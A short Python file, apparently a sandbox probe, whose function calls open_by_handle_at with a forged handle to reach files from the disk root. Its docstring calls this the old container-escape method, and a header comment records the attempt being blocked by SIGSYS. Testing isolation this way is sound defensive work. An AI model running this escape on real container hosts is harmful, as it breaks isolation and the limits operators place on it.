# word: FAIL killed by SIGSYS | Permission denied
"""Opens a file by its number on the disk, past every folder: how containers were once left."""

import ctypes
import os
import struct


def word():
    libc = ctypes.CDLL(None, use_errno=True)
    disk = os.open("/", os.O_RDONLY)
    handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, 2), 128)
    return f"file {libc.open_by_handle_at(disk, handle, os.O_RDONLY)}"
